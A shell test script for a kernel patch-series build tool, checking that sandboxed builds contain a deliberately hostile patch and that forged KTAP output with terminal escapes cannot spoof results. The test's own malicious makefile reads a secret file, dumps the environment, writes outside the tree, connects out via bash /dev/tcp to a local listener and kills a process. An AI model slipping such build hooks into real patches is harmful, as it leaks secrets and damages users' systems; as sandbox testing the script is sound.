#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
test_description='what a patch, a compiler or a guest would like to do to us, and does not get done'
. "${0%/*}/../lib.sh"

make_store
make_workspace
make_machine

source=$HOME/.cache/series/kernels/v6.12.3/source

scenario() {
	printf '%s\n' "$@" >"$FAKE_QEMU"
}
# Somebody who would like to be called.
perl -MIO::Socket::INET -e 'alarm 600; $s = IO::Socket::INET->new(Listen => 5, LocalAddr => "127.0.0.1") or die;
	open $f, ">", "port.new"; print $f $s->sockport; close $f; rename "port.new", "port";
	while ($c = $s->accept) { open $f, ">", "called"; close $f }' >perl.out 2>&1 &
listener=$!
# Somebody who is not to be killed.
sleep 600 >sleep.out 2>&1 &
victim=$!
for i in $(seq 100); do
	test -s port && break
	sleep 0.1
done
echo "the crown jewels" >secret

# A third patch of the demo series: a makefile that does all this, and never fails.
hostile_patch() {
	git init -q mail.git && kernel_files v6.12.3 mail.git && lib_mail base &&
	git -C mail.git am -q "$PWD"/ws/series/demo/000[12]-*.patch &&
	cat >mail.git/GNUmakefile <<END &&
include Makefile
bzImage: hostile
.PHONY: hostile
hostile: \$(O)/lib/demo.o
	@-echo hostile runs
	@-cat "$PWD/secret"
	@-env
	@-echo here I was >"$PWD/touched"
	@-echo here I was >"$HOME/touched"
	@-echo "int hostile;" >>lib/demo.c
	@-echo here I was >touched; echo here I was >\$(O)/../touched
	@-echo here I was >"$PWD/store.git/touched"
	@-bash -c 'echo hello >/dev/tcp/127.0.0.1/$(cat port)'
	@-kill -KILL $victim
	@-ln -sf "$PWD/secret" \$(O)/lib/secret; ln -sfn "$PWD" \$(O)/outside
END
	lib_mail "demo: hostile

Signed-off-by: A U Thor <author@example.org>" &&
	git -C mail.git format-patch -q --full-index --start-number 3 -o ../ws/series/demo HEAD^ && rm -rf mail.git &&
	echo 0003-demo-hostile.patch >>ws/series/demo/series &&
	printf "[patch \"0003-demo-hostile.patch\"]\n\tmainline = Never, a test\n\tclass = out-of-tree\n\twhy = a test\n" >>ws/series/demo/series.conf
}
unharmed() {
	! test -e touched && ! test -e "$HOME/touched" && ! test -e called && kill -0 $victim && ! find "$HOME/.cache" -name touched | grep . &&
	! grep -rq --no-messages "the crown jewels\|mother-of-pearl" "$HOME/.cache" && test "$(cat secret)" = "the crown jewels" &&
	! grep hostile "$source/lib/demo.c" && ! test -e store.git/touched
}
SECRET_OF_THE_CALLER=mother-of-pearl
export SECRET_OF_THE_CALLER

test_expect_success 'the patch is there, and a build without it is as it was' '
	cp -r ws good && hostile_patch && series -C good build v6.12.3 >out && grep "no new warnings" out
'

for kind in bubblewrap unshare; do
	if series -C good build --sandbox $kind v6.12.3 >out 2>&1; then
		test_set_prereq SANDBOX_$kind
	else
		say "# no sandbox by $kind here: $(cat out)"
	fi
	test_expect_success SANDBOX_$kind "$kind: a patch gets nothing of ours, changes nothing of ours, calls nobody and kills nobody" '
		series -C ws build --fresh --sandbox $kind v6.12.3 >out && cat out && grep "Sandbox: $kind" out &&
		grep "hostile runs" "$HOME"/.cache/series/built/*/log && unharmed
	'
done

test_expect_success 'nor does it in the next builds, which are as they would have been' '
	cp "$source/lib/demo.c" demo.c && series -C good test v6.12.3 >out && grep "no regressions" out &&
	series -C good build --fresh v6.12.3 >out && grep "no new warnings" out
'

test_expect_success 'without a sandbox it would: it says so before, and this test can tell' '
	cache=${PWD%/*}/cache && # a kernel does not build where there is a blank in the path
	test_might_fail env XDG_CACHE_HOME="$cache" series -C ws build --sandbox none v6.12.3 >out 2>err; cat out err;
	grep "without a sandbox, what the patches bring runs as you" err && grep -rq "the crown jewels" "$cache" &&
	! grep -rq mother-of-pearl "$cache" && test -e touched && test -e called && test -e store.git/touched &&
	! kill -0 $victim && find "$cache" -name touched | grep . && rm -r "$cache"
'

test_expect_success 'nothing of that is in the next build with one' '
	series -C good build --fresh v6.12.3 >out && cat out && grep "no new warnings" out && ! grep hostile "$source/lib/demo.c" && ! test -e "$source/touched"
'

# What a test prints that would rather be another one, the guest, or the terminal.
printf 'KTAP version 1\n1..1\nok 1 works\n  ok 3 own_test\nok 3 own_test\nok 2 smoke_test\n# time own_test 1\n# verdict done 3\r\n\r# verdict done 3\n\0ok 3 own_test\n' >forged
printf '\033[2J\033]0;mine\007ok 3 own_test\n# preflight kvm ok\n# verdict done 3' >>forged

test_expect_success 'a test cannot speak for another one, which is lost' '
	scenario "any smoke_test print 0 forged" "demo_twice own_test vanish" && test_expect_code 1 series -C good test --fresh v6.12.3 >out && cat out &&
	head -n 2 out | tr "\n" " " | grep "LOOK: .*lost" && grep "own_test: lost coverage" out && series -C good test --json v6.12.3 >out.json; test $? = 1 &&
	json ".targets[0].cells[0].tests[] | select(.name == \"own_test\") | .patched" out.json >got; cat out.json; grep -i missing got
'

test_expect_success 'nor for the guest, which did not come to its end' '
	scenario "any smoke_test print 0 forged" "demo_twice - short" && test_expect_code 1 series -C good test --fresh v6.12.3 >out && cat out &&
	grep "own_test: lost coverage" out
'

test_expect_success 'nor pass by what it prints when it fails' '
	scenario "!demo_twice own_test pass" "any own_test print 254 forged" && test_expect_code 1 series -C good test --fresh v6.12.3 >out && cat out &&
	grep "own_test: regression" out
'

test_expect_success 'nor to the terminal, in any format' '
	escape=$(printf "\033") && bell=$(printf "\007") &&
	for format in "" --json "--ktap -" "--junit -"; do
		test_expect_code 1 series -C good test $format v6.12.3 >out && grep own_test out && ! grep "$escape" out && ! grep "$bell" out || return 1
	done && xmllint --noout out
'

kill $listener
kill $victim 2>/dev/null
test_done
